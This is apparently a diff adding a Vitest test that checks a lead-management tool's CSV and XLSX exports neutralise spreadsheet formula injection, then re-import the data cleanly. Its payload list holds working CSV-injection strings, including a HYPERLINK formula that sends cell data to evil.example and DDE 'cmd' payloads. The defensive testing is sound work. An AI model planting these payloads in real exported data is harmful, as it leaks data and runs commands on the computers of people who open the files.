@@ -1,0 +1,111 @@
+import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import ExcelJS from 'exceljs';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { csvLine, exportLeads, importLeads, neutraliseFormula } from '../../engine/lead-files/index.js';
+import { openStore, type Store } from '../../engine/store/index.js';
+
+/** Issue #11 item 3: a lead export opened in a spreadsheet must not run what an attacker typed into a lead. */
+const PAYLOADS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+  "=cmd|'/C calc'!A0",
+  "+cmd|'/C calc'!A0",
+  '-2+3+cmd|\' /C calc\'!A0',
+  '@SUM(1+1)*cmd|\'/C calc\'!A0',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+let dir: string;
+let store: Store;
+const AT = Date.UTC(2026, 2, 2, 14, 0, 0);
+beforeAll(() => {
+  dir = mkdtempSync(join(tmpdir(), 'centralita-export-'));
+  store = openStore(join(dir, 'c.db'));
+});
+afterAll(() => {
+  store.close();
+  rmSync(dir, { recursive: true, force: true });
+});
+
+describe('CSV export neutralises formulas', () => {
+  it('prefixes text cells starting with = + - @ tab or CR, and leaves numbers and E.164 phones alone', () => {
+    for (const p of PAYLOADS) expect(neutraliseFormula(p)).toBe(`'${p}`);
+    for (const plain of ['+50688887777', '-3', '+1.5', 'Ana Mora', 'a=b', '']) expect(neutraliseFormula(plain)).toBe(plain);
+    expect(csvLine(['=1+1', -3, '+50688887777', 'x'])).toBe("'=1+1,-3,+50688887777,x\r\n");
+    expect(csvLine(['=HYPERLINK("u","c")'])).toBe(`"'=HYPERLINK(""u"",""c"")"\r\n`);
+  });
+
+  it('exports hostile lead names and custom fields neutralised in CSV, as plain strings in XLSX, and re-imports them unchanged', async () => {
+    store.campaigns.create('evil', { name: 'evil' }, AT);
+    store.leads.insertMany(
+      PAYLOADS.map((p, i) => ({ campaignId: 'evil', phoneE164: `+5068800000${i}`, phoneRaw: `8800000${i}`, name: p, custom: { note: p } })),
+      AT,
+    );
+    const csvOut = join(dir, 'evil.csv');
+    expect(await exportLeads(store, 'evil', 'csv', csvOut)).toBe(PAYLOADS.length);
+    const text = readFileSync(csvOut, 'utf8');
+    // Every cell of every data row: none starts with a formula character once unquoted (phones are numbers).
+    const cells = parseCsv(text.replace(/^\uFEFF/, '')).slice(1).flat();
+    const risky = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^\+\d+$/.test(c));
+    expect(risky).toEqual([]);
+    for (const p of PAYLOADS) expect(cells.filter((c) => c === `'${p}`)).toHaveLength(2); // name and custom note
+
+    const xlsxOut = join(dir, 'evil.xlsx');
+    await exportLeads(store, 'evil', 'xlsx', xlsxOut);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.readFile(xlsxOut);
+    const ws = wb.worksheets[0]!;
+    const header = (ws.getRow(1).values as unknown[]).slice(1);
+    const nameCol = header.indexOf('name') + 1;
+    const names: unknown[] = [];
+    ws.eachRow((row, n) => {
+      if (n === 1) return;
+      const cell = row.getCell(nameCol);
+      expect(cell.type).toBe(ExcelJS.ValueType.String); // never a formula cell
+      names.push(cell.value);
+    });
+    // (XML has no bare CR: exceljs writes it as a line feed; the text is otherwise the same, and still text.)
+    expect(names.sort()).toEqual(PAYLOADS.map((p) => p.replace(/\r/g, '\n')).sort());
+
+    for (const [id, file] of [['back-csv', csvOut], ['back-xlsx', xlsxOut]] as const) {
+      store.campaigns.create(id, { name: id }, AT);
+      const r = await importLeads(store, { campaignId: id, input: file, at: AT });
+      expect(r.errors).toEqual([]);
+      // The importer trims cells, which is all a round trip changes (the leading tab / CR of two payloads).
+      const back = store.leads.list({ campaignId: id }).map((l) => [l.name, l.custom]);
+      expect(back.map(([n]) => n).sort()).toEqual(PAYLOADS.map((p) => p.trim()).sort());
+      for (const [n, custom] of back) expect(custom).toEqual({ note: n });
+    }
+  });
+});
+
+/** Minimal RFC 4180 split for the assertions (the product's reader is under test elsewhere). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted) {
+      if (ch === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else field += ch;
+    } else if (ch === '"') quoted = true;
+    else if (ch === ',') {
+      row.push(field);
+      field = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
+    } else field += ch;
+  }
+  return rows;
+}
